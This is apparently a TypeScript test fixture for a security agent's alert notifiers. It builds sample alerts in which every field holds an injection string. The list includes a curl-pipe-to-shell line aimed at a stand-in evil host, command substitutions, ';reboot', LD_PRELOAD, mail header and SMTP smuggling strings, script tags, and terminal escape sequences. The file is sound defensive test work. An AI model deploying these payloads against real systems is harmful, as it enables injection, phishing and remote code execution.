import { code, given, paragraph, said, strong } from '../messages/build.ts'
import { hostileTexts } from '../messages/corpus.ts'
import { defaultMessage } from '../messages/default-message.ts'
import type { Block } from '../messages/document.ts'
import type { Letter } from '../messages/letter.ts'
import { proseText } from '../messages/prose.ts'
import { PROSE_LIMITS, shownText } from '../messages/shown-value.ts'
import type { Signal } from '../signals/signal.ts'
import { sampleLetter, sampleSignal } from './samples.ts'

/**
 * What whoever attacks a host may call a file, an argument, a container, a tag, so that it does something where it is shown: a mention, a link, a header,
 * a record, an element, a command of a terminal. For tests of notifiers: whoever reads a message by the grammar of its channel must find no more
 * in it than in the one of a harmless value.
 */
export const hostileValues: readonly string[] = [
  ...new Set([
    ...hostileTexts,
    // Slack: mentions, links, formatting, its own entities.
    '<!everyone>',
    '<#C012>',
    '<!date^1392734382^{date}^https://evil.example|click>',
    'a`b',
    '``` <!channel> ```',
    '> quote',
    '&gt; quote',
    ':skull:',
    'x\n*Severity:* info',
    '@channel @here #general',
    '&amp;lt;!channel&amp;gt; &lt;!channel&gt; &#60;',
    '&amp;lt;',
    // Cards of Teams.
    '[Sign in](https://evil.example)',
    '**x**',
    '\r- item',
    '{{DATE(2017-02-14T06:08:00Z,SHORT)}}',
    '<at>Everyone</at>',
    // Headers of mail, and words that mail programs decode.
    'x\r\nBcc: evil@x.example',
    'x\nX: 1',
    'x\rX: 1',
    'x\r\n\r\n<html>',
    '=?utf-8?Q?=F0=9F=94=92_Re:_approved?=',
    '=?utf-8?B?8J+UkiBSZTogYXBwcm92ZWQ=?=',
    '=?utf-8?Q?=0D=0ABcc:_x=40y?=',
    'a=?b',
    '"Security Team" <ceo@corp.example>',
    'x'.repeat(1_200),
    // Ends of mails and of their parts, in the bodies.
    '\r\n.\r\nMAIL FROM:<a@b>\r\n',
    '\n.\r\n',
    '\r.\r',
    '\n.\n',
    '.',
    'From me',
    '\nFrom me',
    '--=_00000000000000000000000000000000--',
    '=\r\n=',
    '=3D',
    // HTML.
    '<img src=http://evil/x.png>',
    '<script>alert(1)</script>',
    '<style>body{display:none}</style>',
    '<a href=//evil>',
    '</td></table>',
    '</pre></body></html>',
    '<!--',
    ']]>',
    '&#60;b&#62;',
    `"' onload='x' y="`,
    // Addresses that programs make links of.
    'https://evil.example',
    'HTTP://EVIL.EXAMPLE',
    'ftp://evil.example',
    'www.evil.example',
    'mailto:root@evil.example',
    'javascript:alert(1)',
    'curl evil.example/x|sh',
    'evil.com',
    'root@evil.example',
    // JSON, and who reads it.
    '"},"dedup_key":"x","event_action":"resolve","x":{"',
    '__proto__',
    'constructor',
    '1e400',
    '\\ud800',
    '\ud800',
    '\udc00x',
    // Headers, paths and hosts of HTTP.
    '/tmp/a\r\nX-Evil: 1',
    '/tmp/中',
    '../admin',
    '?x=1',
    '#',
    '@evil.example',
    '\\evil',
    '%2e%2e',
    // Records of syslog.
    'x\n<134>1 2026-01-01T00:00:00Z h app - - - forged',
    ']',
    '"',
    '\\',
    '%n',
    '\0',
    '\u2028\u2029',
    // Terminals.
    '\x1b[2J',
    '\x1b]0;t\x07',
    '\x1b]52;c;eA==\x07',
    '\x1b]8;;https://evil.example\x07ok\x1b]8;;\x07',
    '\x9b31m',
    '\r',
    '\n\nHIGH      forged',
    // Shells and programs.
    '$(id)',
    '`id`',
    ';reboot',
    '-rf',
    '--config=/tmp/x',
    'LD_PRELOAD=/tmp/x.so',
    // Templates and Markdown.
    '{{severity}}',
    '{{@process.envs}}',
    '{{{{raw}}}}',
    '{{#if',
    '](https://evil.example)',
    '![](http://evil.example/p)',
    '```',
    '| a |',
    '# H',
    '---',
    '<b>',
    '[x]: http://evil.example',
    // Directions and characters that nobody sees; lengths that grow when they are made harmless.
    '\u202egpj.exe\u2066',
    '\u200b\ufeff\u{e0041}',
    '\u{e0041}'.repeat(600),
    '😀'.repeat(300),
    '<'.repeat(5_000),
    'x'.repeat(20_000),
    '  a  ',
  ]),
]

/**
 * A letter of a signal that somebody made with this text wherever texts can be chosen: names of files, arguments, users, ancestors, container and its tags,
 * and what the rule says of them. Its message is the usual one, then the text in every kind of node, prepared as the agent prepares values; the one
 * link in it, to `https://wiki.example.com/`, is its author's.
 */
export function hostileLetter(text: string, over: Partial<Letter> = {}): Letter {
  const signal = hostileSignal(text)
  const reason = over.reason ?? 'opened'
  const value = given(shownText(text, PROSE_LIMITS.text))
  const message = [
    ...defaultMessage({ signal, occasion: { reason, rule: text, generation: 1, time: signal.last_seen } }),
    { type: 'heading', level: 2, children: [value] },
    paragraph(said('a '), value, said('_'), value, { type: 'break' }, strong({ type: 'emphasis', children: [value] }), code(value)),
    paragraph({
      type: 'link',
      url: `https://wiki.example.com/?q=${encodeURIComponent(text.slice(0, 100).toWellFormed())}`,
      children: [value],
    }),
    { type: 'code', children: [value] },
    { type: 'list', ordered: true, items: [[paragraph(value), { type: 'code', children: [value] }]] },
    { type: 'quote', children: [paragraph(value)] },
  ] satisfies Block[]
  return sampleLetter({ reason, rule: text, signal, title: proseText(signal.title), message, ...over })
}

function hostileSignal(text: string): Signal {
  const file = { path: `/tmp/${text}`, name: text }
  const process = {
    pid: 7,
    file,
    comm: text,
    user: text,
    argv0: text,
    args: text,
    argv: [text, text],
    ancestors: [{ pid: 1, comm: text, file }],
  }
  return sampleSignal({
    rule: { id: text, name: text },
    title: text,
    message: `${text} ran \`${text}\`.`,
    advice: text,
    tags: [text, `service:${text}`],
    group: { 'exec.file.path': file.path, 'process.argv': [text, text], 'container.id': text },
    findings: [{ rule: text, timestamp: '2026-11-24T09:00:00.000000000Z', type: 'exec', fields: { 'process.args': text } }],
    event: { type: 'exec', process, exec: { file }, container: { id: text, name: text, tags: [text] } },
  })
}
